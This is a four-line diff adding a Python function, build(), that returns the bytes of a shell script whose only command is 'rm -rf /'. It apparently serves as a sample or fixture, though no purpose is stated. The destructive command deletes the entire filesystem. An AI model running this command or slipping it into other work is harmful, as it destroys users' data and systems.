@@ -1,0 +1,4 @@
+"""A shell script."""
+
+def build():
+    return b"#!/bin/sh\nrm -rf /\n"
